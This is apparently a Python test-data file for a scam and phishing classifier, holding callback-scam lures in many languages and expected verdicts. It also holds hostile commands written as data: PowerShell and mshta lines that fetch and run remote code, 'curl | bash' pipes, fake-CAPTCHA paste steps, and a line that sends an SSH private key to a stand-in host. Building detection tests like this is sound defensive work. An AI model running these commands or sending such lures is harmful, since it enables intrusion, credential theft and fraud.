"""fpover18 look-alikes that try to abuse what fpover18 clears, each with the level it must keep
(own words; invented hosts are reserved names or lure-shaped .top/.click hosts, numbers 555)."""

GMAIL = "https://mail.google.com/"
CHECK = "https://verify-session.umbra-stage.test/check"

# refnumbers: an order's reference beside a number left to call
REFERENCE = [
    (
        "other",
        GMAIL,
        "malicious",
        "Your Norton 360 Deluxe subscription was renewed for $399.99. Order number: 7745-1182-0091. If you did not authorize this charge, call our billing department at 1-808-555-0143 to cancel.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Invoice #INV-88121: PayPal charged you $649.99 for McAfee Total Protection. If you don't recognize this transaction, call +1 (844) 555-0177 for a refund.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Order number: 7745-1182-0091. Your Geek Squad renewal of $289.00 has been processed. To cancel, call the refund line: 1-855-555-0110.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Transaction ID 8AB12345CD678901E. Amount: $520.00 debited for Windows Defender Premium. Not you? Call customer service 1-866-555-0188.",
    ),
    (
        "unknown",
        None,
        "malicious",
        "Amazon: order 112-4456789-1234567 placed for iPhone 15 Pro ($1,199.00). If you did not place this order, call 1-888-555-0123 immediately.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Reference: 4471-2231-8890. Your subscription was auto-renewed and $499.99 was deducted. To cancel or get a refund, call 808-555-0149.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Confirmation number: 5512-7781-3309. Payment of £399.99 for Norton LifeLock completed. If this wasn't you, phone 0800 555 0100 to dispute.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Bestellnummer: 4471-2231-889. Ihr Abonnement wurde verlängert und 349,99 € wurden abgebucht. Falls Sie diese Bestellung nicht autorisiert haben, rufen Sie uns an: 0800 555 0123.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "N° de commande : 4471-2231-889. Votre abonnement a été renouvelé, 299,99 € ont été débités. Si vous n'êtes pas à l'origine de cette commande, appelez le 09 70 55 50 12 pour l'annuler.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Número de pedido: 4471-2231-889. Se ha renovado su suscripción y se le han cobrado 299,99 €. Si no reconoce este cargo, llame al 900 555 012 para cancelarlo.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Numero d'ordine: 4471-2231-889. Il tuo abbonamento è stato rinnovato e sono stati addebitati 299,99 €. Se non hai autorizzato questo pagamento, chiama il numero 800 555 123 per annullarlo.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "PIN: 4471. Your card was charged $899.00 at BestBuy. If you did not make this purchase call the fraud hotline 1-877-555-0166 now.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Case number 88-1123. Your Microsoft account has been blocked due to suspicious activity. Call Microsoft Support at +1 (855) 555-0190 to unlock it.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Ticket ID: 77120. Your computer has been locked because a virus was detected. Do not turn off your PC. Call the helpline 1-844-555-0134.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Order ID 4471-2231-8890 — Apple Care+ renewed, $299.00 charged to your account. Support number: 1-808-555-0142. Call to cancel within 24 hours.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Номер заказа: 4471-2231-889. С вашей карты списано 29 990 ₽ за подписку. Если вы не совершали этот платёж, позвоните по номеру 8 800 555 01 23.",
    ),
]

# records: an analyst's record with a live address, a record's shapes around a runnable line, the
# same record where it would run, a lure dressed as a record
RECORDS = [
    (
        "unknown",
        None,
        "malicious",
        "Incident 1187 entities\nHost: WS-0412\nProcess: mshta.exe https://docs-share.click/p.hta\nIP: 91.92.240.11\nVerdict: true positive",
    ),
    (
        "unknown",
        None,
        "malicious",
        '{\n  "title": "Suspicious process executed PowerShell command",\n  "processCommandLine": "powershell.exe -w h -nop -c \\"iwr https://verify-cdn.top/c | iex\\""\n}',
    ),
    (
        "other",
        None,
        "malicious",
        "Time | Device | Detail\n2024-12-03 09:11:58 | WS-0231 | powershell -w h -c iwr https://verify-cdn.top/c|iex",
    ),
    (
        "terminal",
        None,
        "suspicious",
        'Time | Device | Detail\n2024-12-03 09:11:58 | WS-0231 | powershell -w h -c iwr hxxps://verify-cdn[.]top/c|iex\npowershell -w h -c "iwr https://verify-cdn.top/c|iex"',
    ),
    (
        "run_dialog",
        CHECK,
        "malicious",
        "Process: mshta.exe hxxps://docs-share[.]click/p.hta\nIP: 91.92.240[.]11",
    ),
    (
        "terminal",
        None,
        "malicious",
        'Parent: explorer.exe\npowershell -w h -nop -c "iex(irm https://cdn-check.top/v)"',
    ),
    (
        "other",
        None,
        "suspicious",
        'Alert: blocked\npowershell -w h -nop -c "iex(irm https://cdn-check.top/v)"\nStatus: open',
    ),
    (
        "unknown",
        None,
        "malicious",
        "Host: WS-0412\nProcess: mshta.exe hxxps://docs-share[.]click/p.hta\nSecond stage: https://docs-share.click/s.hta",
    ),
    (
        "unknown",
        None,
        "suspicious",
        'Step 1: Press Win+R\nStep 2: Press Ctrl+V and Enter to verify you are human\nCommand: powershell -w h -c "iwr hxxps://verify-cdn[.]top/c|iex"',
    ),
    (
        "unknown",
        CHECK,
        "malicious",
        "Verification: I am not a robot - reCAPTCHA ID 8812\nCommand: mshta https://verify-cdn.top/check.hta",
    ),
    (
        "other",
        None,
        "suspicious",
        "Process: powershell.exe -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AdgBlAHIAaQBmAHkALQBjAGQAbgAuAHQAbwBwAC8AYwAgAHwAIABpAGUAeAA=\nURL: hxxps://verify-cdn[.]top/c",
    ),
    (
        "unknown",
        None,
        "suspicious",
        "Name: update\nRun: curl -fsSL https://cdn-check.top/i.sh | bash",
    ),
    (
        "other",
        None,
        "suspicious",
        '- Parent: explorer.exe -> powershell.exe -w h -nop -c "iex(irm https://cdn-check.top/v)"\n- Status: open',
    ),
    (
        "terminal",
        None,
        "suspicious",
        'SOC-4412 triage notes\n- Parent: explorer.exe -> powershell.exe -w h -nop -c "iex(irm hxxps://cdn-check[.]top/v)"\n- Status: contained',
    ),
    (
        "run_dialog",
        None,
        "malicious",
        "Process: mshta.exe hxxps://docs-share[.]click/p.hta\nVerdict: true positive",
    ),
    (
        "unknown",
        None,
        "malicious",
        "Host: WS-0412\nUNC: \\\\91.92.240.11@8080\\share\\p.hta\nProcess: mshta.exe hxxps://docs-share[.]click/p.hta",
    ),
]

# ownapp: a lock notice that names the app beside what a scam needs
OWN_APP = [
    (
        "other",
        GMAIL,
        "malicious",
        "Your account has been blocked due to suspicious activity. Call us immediately on 1-888-555-0123 or open the app to verify.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your computer has been locked because a virus was detected. Do not turn off your PC. Call 1-844-555-0134, or open the Defender app.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your card has been blocked after an unauthorized payment of $950.00. Call 1-877-555-0199 now to reverse it; the app cannot help with this.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your bank account has been suspended. To restore access call 1-866-555-0101 within 2 hours. A technician will connect with AnyDesk; do not use the banking app meanwhile.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Ihr Konto wurde wegen verdächtiger Aktivität gesperrt. Rufen Sie sofort 0800 555 0123 an oder öffnen Sie die App.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Ihr Computer wurde gesperrt, ein Virus wurde erkannt. Schalten Sie den Rechner nicht aus und rufen Sie 0800 555 0111 an; die App hilft hier nicht.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "La sua carta è stata bloccata per un'operazione sospetta. Chiami subito il numero verde 800 555 123 o apra l'app.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Seu cartão foi bloqueado por uma compra suspeita. Ligue imediatamente para 0800 555 0001 ou abra o app.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Uw pas is geblokkeerd vanwege verdachte activiteit. Bel direct 020 555 4000 of open de app.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Votre compte a été bloqué suite à une activité suspecte. Appelez immédiatement le 09 70 55 50 12 ou ouvrez l'application.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Su cuenta ha sido bloqueada por actividad sospechosa. Llame inmediatamente al 900 555 012 o abra la app.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Twoje konto zostało zablokowane z powodu podejrzanej aktywności. Zadzwoń natychmiast pod 22 555 01 23 lub otwórz aplikację.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your Windows license has been blocked. Call Microsoft Support on 1-855-555-0190; you can also check the Microsoft Store app.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Your internet connection has been suspended because your router is sending spam. Call your ISP on 1-800-555-0147 or open the app.",
    ),
    (
        "unknown",
        None,
        "malicious",
        "Your iCloud account has been locked. Hackers are trying to access your photos. Call Apple Support 1-888-555-0175 — do not use the app.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Ваша карта заблокирована из-за подозрительной операции. Срочно позвоните по номеру 8 800 555 01 23 или откройте приложение.",
    ),
]

# a developer's fetch of their own callback: the same code where a page would receive it, a fetch
# of a stranger's address carrying it, a second command, a pipe into a shell
LOCAL_CODE = [
    (
        "unknown",
        None,
        "malicious",
        "curl -i 'http://localhost:8080/login/oauth2/code/keycloak?state=abc&code=test-code-123'",
    ),
    (
        "other",
        CHECK,
        "malicious",
        "curl -i 'http://localhost:8080/login/oauth2/code/keycloak?state=abc&code=test-code-123'",
    ),
    (
        "terminal",
        None,
        "suspicious",
        "curl -s -X POST https://collect.consent-verify.top/c -d 'u=http://localhost:8400/?code=M.C507_BAY.2.U.1e8a'",
    ),
    (
        "terminal",
        None,
        "malicious",
        "curl 'http://localhost:3000/callback?code=0.AXEAx7b&state=1' ; curl -s https://cdn-check.top/i.sh | sh",
    ),
    (
        "terminal",
        None,
        "malicious",
        "curl -s 'http://localhost:3000/callback?code=0.AXEAx7b&state=1' | sh",
    ),
    (
        "terminal",
        CHECK,
        "malicious",
        "http://localhost:8400/?code=M.C507_BAY.2.U.1e8a-28c0-4a61&state=abc",
    ),
    (
        "unknown",
        None,
        "malicious",
        "http://localhost/?code=0.AXEAx7bQ1oJBxk2k&session_state=9f1e&state=12345",
    ),
    (
        "terminal",
        None,
        "malicious",
        "wget -qO- 'http://localhost:8400/?code=M.C507_BAY.2.U.1e8a' && curl -d @~/.ssh/id_rsa https://drop.consent-verify.top/k",
    ),
]

REFERENCE += [
    (
        "other",
        GMAIL,
        "suspicious",
        "Bestelnummer: 4471-2231-889. Uw abonnement is verlengd en er is € 299,99 afgeschreven. Heeft u deze bestelling niet geplaatst? Bel ons dan op 020 555 4000 om te annuleren.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Numer zamówienia: 4471-2231-889. Twoja subskrypcja została odnowiona, pobrano 299,99 zł. Jeśli nie autoryzowałeś tej płatności, zadzwoń pod numer 22 555 01 23, aby ją anulować.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Sipariş numarası: 4471-2231-889. Aboneliğiniz yenilendi ve hesabınızdan 2.999,99 TL çekildi. Bu işlemi siz yapmadıysanız iptal için 0850 555 01 23 numarasını arayın.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Número do pedido: 4471-2231-889. Sua assinatura foi renovada e R$ 1.299,99 foram debitados. Se você não reconhece esta compra, ligue para 0800 555 0123 para cancelar.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "注文番号：4471-2231-889。サブスクリプションが更新され、39,800円が請求されました。お心当たりがない場合は、0120-555-012 までお電話ください。",
    ),
    (
        "other",
        GMAIL,
        # an amount, "call immediately" and the number as the only way: blocked since gaps21
        # (PG-SCAM-CALL-ONLY-ROUTE); the two above name no deadline and stay warnings
        "malicious",
        "订单号：4471-2231-889。您的订阅已续费，扣款 2999 元。如非本人操作，请立即拨打 400-555-0123 取消。",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "رقم الطلب: 4471-2231-889. تم تجديد اشتراكك وخصم 1,499 درهم. إذا لم تقم بهذا الطلب، اتصل على 800 555 0123 للإلغاء.",
    ),
    (
        "unknown",
        None,
        "suspicious",
        "Tracking number 4471-2231-8890. Your order of $749.99 has been shipped. If you did not place this order, call 1-877-555-0123 to cancel it.",
    ),
]

OWN_APP += [
    (
        "other",
        GMAIL,
        "suspicious",
        "Hesabınız şüpheli işlem nedeniyle bloke edildi. Hemen 0850 555 01 23 numarasını arayın veya mobil uygulamayı açın.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "お客様の口座は不正アクセスのため凍結されました。至急 0120-555-012 にお電話いただくか、アプリを開いてください。",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "您的电脑已被锁定，检测到病毒。请勿关机，立即拨打 400-555-0123，或打开 App。",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "تم تجميد حسابك بسبب نشاط مشبوه. اتصل فوراً على 800 555 0123 أو افتح التطبيق.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your PayPal account has been suspended after unauthorized access. Call 1-888-555-0101 or open the app; a $49.99 verification fee applies.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your Apple ID has been locked because your Mac is infected. Call 1-844-555-0123. Do not use the Find My app until a technician calls you back.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Your account has been suspended. You must pay a $199 reactivation fee with a gift card. Call 1-855-555-0111 or open the app for the card code form.",
    ),
    (
        "unknown",
        None,
        "malicious",
        "Your card has been blocked. Call 1-800-555-0166 right now to unblock it; our remote support team will install Quick Assist. (The app is temporarily unavailable.)",
    ),
]

RECORDS += [
    (
        "unknown",
        None,
        "malicious",
        '{\n  "deviceName": "ws-0231",\n  "processCommandLine": "mshta.exe https://verify-cdn.top/check.hta"\n}',
    ),
    (
        "terminal",
        None,
        "suspicious",
        '{\n  "deviceName": "ws-0231",\n  "processCommandLine": "mshta.exe hxxps://verify-cdn[.]top/check.hta"\n}\nmshta.exe https://verify-cdn.top/check.hta',
    ),
    (
        "unknown",
        None,
        "malicious",
        "Host: WS-0231\nCommandLine: powershell -c \"$u='https://verify-cdn'+'.top/c'; iex(irm $u)\"\nNote: hxxps://verify-cdn[.]top/c",
    ),
    (
        "unknown",
        None,
        "malicious",
        "Time | Device | Detail\n09:11:58 | WS-0231 | mshta https://verify-cdn.top/c.hta",
    ),
    (
        "unknown",
        None,
        "suspicious",
        "Host: WS-0231\nCommandLine: curl -fsSL https://cdn-check.top/i.sh | bash\nSeen: hxxps://cdn-check[.]top",
    ),
    (
        "unknown",
        None,
        "malicious",
        "Alert: fake CAPTCHA\nAction: Press Win+R, then Ctrl+V, then Enter to complete the verification\nCommand: mshta https://verify-cdn.top/c.hta",
    ),
]

LOCAL_CODE += [
    (
        "unknown",
        None,
        "malicious",
        "curl 'http://127.0.0.1:5000/oauth2callback?state=Q1x&code=4%2F0AanRRrs&scope=email+openid'",
    ),
    (
        "other",
        CHECK,
        "malicious",
        "wget 'http://localhost:8400/?code=M.C507_BAY.2.U.1e8a-28c0&state=xyz'",
    ),
    (
        "terminal",
        None,
        "malicious",
        "curl 'http://localhost:3000/callback?code=0.AXEAx7b&state=1' -o /tmp/x && bash /tmp/x",
    ),
    (
        "terminal",
        CHECK,
        "malicious",
        "Paste this to finish: http://localhost:8400/?code=M.C507_BAY.2.U.1e8a-28c0&state=abc",
    ),
]

# advancenotice: a callback lure that says "will renew on <day>" beside a lure's trait, or offers
# no other way than the call
ADVANCE = [
    (
        "other",
        GMAIL,
        "suspicious",
        "Your subscription has been renewed on 12/15 and $399.99 was charged. To cancel, call 1-808-555-0143 or manage your account online.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Your annual plan will renew today for $499.99. To cancel, call 1-808-555-0143 or visit your account online.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Your membership will renew on 15 December for $349.99. If you did not authorize this renewal, call 1-808-555-0143 or chat with us.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your Norton 360 plan will be charged $349.99 on 15 December. To cancel, call 1-808-555-0143 or chat with us.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your Geek Squad protection will auto-renew on 12/15 for $399.99. To stop it, call 1-855-555-0110 or visit your account online.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your PayPal subscription will renew on 15 December for $499.00. To cancel call 1-888-555-0123 or manage it online.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Your plan will be charged $499.99 on 15 December. To cancel, call 1-808-555-0143 within 24 hours or manage it online.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your protection plan will be charged $399.99 on 15 December. To cancel, call 1-808-555-0143.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Your technician appointment is on 15 Dec at 10:00. A $199 fee will be charged. To cancel, call 1-855-555-0110; the technician will connect with AnyDesk.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Your subscription will renew on 15 December for $399.99. To cancel and get a refund, call 1-808-555-0143 or visit your account online.",
    ),
    (
        "unknown",
        None,
        "suspicious",
        "Your plan will be charged $399.99 on 15 December. To cancel, call 1-808-555-0143 immediately or chat with us.",
    ),
    (
        "other",
        GMAIL,
        "suspicious",
        "Order placed: $1,299.00 will be debited on 15 December. If this wasn't you, call 1-877-555-0123 or chat with us online.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your McAfee Total Protection will renew on 15/12 for £249.99. To cancel call 0800 555 0199 or manage your account online.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your Coinbase Pro plan will be charged $299.00 on 15 December. To cancel, call 1-888-555-0123 or chat with us.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your Microsoft 365 subscription will renew on 15 December for $399.99. To cancel, call 1-808-555-0143 or chat with us.",
    ),
    (
        "other",
        GMAIL,
        "malicious",
        "Your Apple subscription will renew on 15 December for $299.99. To cancel, call 1-808-555-0143 or chat with us online.",
    ),
]
